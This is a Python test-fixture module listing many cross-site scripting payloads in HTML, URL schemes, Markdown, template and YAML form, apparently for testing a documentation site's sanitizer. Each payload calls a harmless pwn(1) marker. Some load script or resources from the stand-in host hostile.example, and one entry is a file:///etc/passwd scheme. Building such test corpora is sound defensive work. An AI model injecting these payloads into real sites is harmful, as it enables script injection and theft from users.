"""What hostile authors write: bodies of guides, texts of headers and data, each of which would call `pwn` if it ran."""

from __future__ import annotations

import json

CALL = "pwn(1)"
ELSEWHERE = "https://hostile.example/x"

HTML = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<script src={ELSEWHERE}></script>",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"</title><script>{CALL}</script>",
    f"</textarea></style></script><script>{CALL}</script>",
    f"<!--><script>{CALL}</script>-->",
    f"<!-- --!><script>{CALL}</script>",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?php ?><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src='x' onerror='{CALL}'/>",
    f'<img src=x onerror="{CALL}"//>',
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x\nonerror={CALL}>",
    f"<img src=x onerror\n=\n{CALL}>",
    f"<img src={ELSEWHERE}>",
    f"<img srcset='{ELSEWHERE} 1x'>",
    f"<image href={ELSEWHERE}>",
    f"<svg onload={CALL}></svg>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<math href='javascript:{CALL}'>x</math>",
    f"<body onload={CALL}>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<video src=x onerror={CALL}></video>",
    f"<video poster={ELSEWHERE}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<button autofocus onfocus={CALL}>x</button>",
    f"<form action='javascript:{CALL}'><input type=submit></form>",
    f"<form id=x></form><button form=x formaction='javascript:{CALL}'>x</button>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<plaintext><script>{CALL}</script>",
    f"<isindex action='javascript:{CALL}'>",
    f"<dialog open onfocus={CALL} autofocus tabindex=0>x</dialog>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href='jav&#x09;ascript:{CALL}'>x</a>",
    f"<a href=x ping={ELSEWHERE}>x</a>",
    f"<b onmouseover={CALL}>x</b>",
    f"<b style='background:url({ELSEWHERE})'>x</b>",
    "<b style='position:fixed;inset:0;background:red;z-index:9999'>x</b>",
    f"<span class=x onclick={CALL} tabindex=0 autofocus onfocus={CALL}>x</span>",
    f"<kbd title='\"><img src=x onerror={CALL}>'>x</kbd>",
    f'<abbr title="\'><script>{CALL}</script>">x</abbr>',
    f"<a name='\"><img src=x onerror={CALL}>'></a>",
    f"<q cite='javascript:{CALL}'>x</q>",
    f"<p><select><script>{CALL}</script></select>",
    f"<table><td background={ELSEWHERE}>x</td></table>",
    "<img name=getElementById src=x><a id=currentScript></a><a id=documentElement></a>",
    "<form><input name=attributes></form><a id=location></a>",
]
SCHEMES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java&#10;script:{CALL}",
    f"java&Tab;script:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript&#0058;{CALL}",
    "javascript:%70wn(1)",
    f"javascript://example.org/%0A{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"blob:https://example.org/{CALL}",
    "file:///etc/passwd",
    f"view-source:javascript:{CALL}",
    f"filesystem:https://example.org/{CALL}",
]
FORMS = ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "[![x](images/x.png)]({})"]
MARKDOWN = [
    f'[x](https://example.org/ "\\"><img src=x onerror={CALL}>")',
    f"[x](https://example.org/'onmouseover='{CALL})",
    f'[x](https://example.org/"onmouseover="{CALL})',
    f'!["><img src=x onerror={CALL}>](images/x.png)',
    f"![x](images/x.png){{onerror={CALL}}}",
    f"![x](images/x.png){{.thumbnail width='1\" onload={CALL}'}}",
    f"[x](https://example.org/){{onclick={CALL}}}",
    "[x](https://example.org/){style='position:fixed;inset:0'}",
    "[x](https://example.org/){.md-consent__overlay}",
    "[x](https://example.org/){.md-overlay .guichet-large .visually-hidden .md-search__overlay}",
    "<span class='md-dialog md-overlay md-consent__overlay'>x</span>",
    "## x {#location}\n\n## y {#getElementById}\n\n## z {#pagefind}",
    f'## <img src=x onerror={CALL}> {{#x" onclick="{CALL}}}',
    f"`<img src=x onerror={CALL}>`",
    f'``` "><script>{CALL}</script>\nx\n```',
    f"```html\n<script>{CALL}</script>\n```",
    f'```js"><img/src=x/onerror={CALL}>\nx\n```',
    f"    <script>{CALL}</script>",
    f"| <img src=x onerror={CALL}> | `</td><script>{CALL}</script>` |\n|---|---|\n| </table><script>{CALL}</script> |",
    f"> [!note] <img src=x onerror={CALL}>\n> <script>{CALL}</script>",
    f'> [!tabs]\n> "><img src=x onerror={CALL}>\n>> <script>{CALL}</script>',
    f"> [!faq]\n> </summary><script>{CALL}</script>\n>> </details><script>{CALL}</script>",
    f"> [!faq]\n> Question\n>> <img src=x onerror={CALL}>\n>>> <script>{CALL}</script>",
    f"> [!carousel]\n> - ![x](images/x.png) <img src=x onerror={CALL}>",
    f"> [!table] notes\n> <script>{CALL}</script>",
    f'> [!api]\n>\n> @api {{GET}} /"><img/src=x/onerror={CALL}>',
    f"> [!api]\n>\n> @api {{GET}} /javascript:{CALL}",
    "> [!api]\n>\n> @api {v1} //hostile.example GET /{path}#'\"<>",
    f"/// details | <img src=x onerror={CALL}>\n<script>{CALL}</script>\n///",
    "{!> emails/_hostile.md !}",
    "Texte {!> emails/_hostile.md !}",
    f"{{{{ x }}}}{{{{ constructor.constructor('{CALL}')() }}}}",
    f"{{% set x = 1 %}}{{{{ x|safe }}}}<%= {CALL} %>${{{CALL}}}",
    f"&lt;script&gt;{CALL}&lt;/script&gt; &amp;lt;img src=x onerror={CALL}&amp;gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"\\<img src=x onerror={CALL}>",
    f"*<img src=x **onerror={CALL}>* x**",
    f"[<img src=x onerror={CALL}>](https://example.org/)",
    f"[x]: https://example.org/ '\"><script>{CALL}</script>'\n\n[x]",
    f"a\x02klzzwxh:0000\x03 \x02amp\x03lt;script>{CALL}</script>",
    f"a\ue001<img src=x onerror={CALL}>\ue000<script>{CALL}</script>",
    f"\ufeff<script>{CALL}</script>",
    f"\u2028<script>{CALL}</script>\u0085<img src=x onerror={CALL}>",
    f'<{ELSEWHERE}"onmouseover="{CALL}>',
    f'<x@y.z"onclick="{CALL}>',
    f'{ELSEWHERE}"><script>{CALL}</script>',
    f'[x](/\\hostile.example/"><script>{CALL}</script>)',
    f"~~<s onclick={CALL}>x~~ ==x== ++<img src=x onerror={CALL}>++",
    f"note[^1]\n\n[^1]: <img src=x onerror={CALL}>",
    f'*[x]: "><img src=x onerror={CALL}>\n\nx',
    f"terme\n: <img src=x onerror={CALL}>",
    f"- [ ] <img src=x onerror={CALL}>\n- [x] <script>{CALL}</script>",
    f"$<img src=x onerror={CALL}>$ \\(<script>{CALL}</script>\\)",
]
BODIES = [*HTML, *(form.format(scheme) for scheme in SCHEMES for form in FORMS[:4]), *MARKDOWN]
BODIES += [form.format(scheme) for scheme in SCHEMES[:3] for form in FORMS[4:]]
TEXTS = [
    f"<script>{CALL}</script>",
    f'"><img src=x onerror={CALL}>',
    f"'onmouseover='{CALL}",
    f"</script><script>{CALL}</script>",
    f"</title></head><img src=x onerror={CALL}>",
    f"]]><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"{{{{ ''.__class__ }}}}{{% include 'x' %}}<img src=x onerror={CALL}>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"\\u003cscript>{CALL}</script>",
    f"x](javascript:{CALL}) <img src=x onerror={CALL}>",
    f"`<img src=x onerror={CALL}>`",
]
"""Titles, excerpts, sections, labels and captions."""


def header(rank: int) -> dict[str, str]:
    """The hostile texts of the header of the guide number *rank*."""
    text = TEXTS[rank % len(TEXTS)]
    return {
        "title": json.dumps(f"Recherche {rank} {text}"),
        "excerpt": json.dumps(f"Extrait {text}"),
        "description": json.dumps(f"{text} {rank}"),
        "updated": "2026-01-31",
        "section": json.dumps(f"Section {rank % 5} {TEXTS[rank % 5]}"),
    }


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"><script>{CALL}</script></svg>'
DATA = f"""\
services:
  mutualise:
    name: {json.dumps(TEXTS[0])}
    servers:
      imap: {{direction: incoming, host: imap.example.org, ports: {{ssl: 993}}}}
tables:
  clients: {{kind: matrix, service: mutualise, caption: {json.dumps(TEXTS[2])}}}
  imap: {{kind: parameters, servers: [mutualise.imap], caption: {json.dumps(TEXTS[3])}}}
  notes:
    kind: rows
    caption: {json.dumps(TEXTS[4])}
    columns: [{json.dumps(TEXTS[5])}, {json.dumps(TEXTS[6])}]
    rows: [[{json.dumps(TEXTS[7])}, {json.dumps(HTML[11])}]]
platforms:
  - id: windows
    name: {json.dumps(TEXTS[8])}
    aliases: [{json.dumps(TEXTS[9])}]
    clients:
      - {{id: outlook, name: {json.dumps(TEXTS[10])}, tutorials: {{mutualise: guide-0}}}}
synonyms:
  fr: [[{json.dumps(TEXTS[0])}, recherche]]
"""
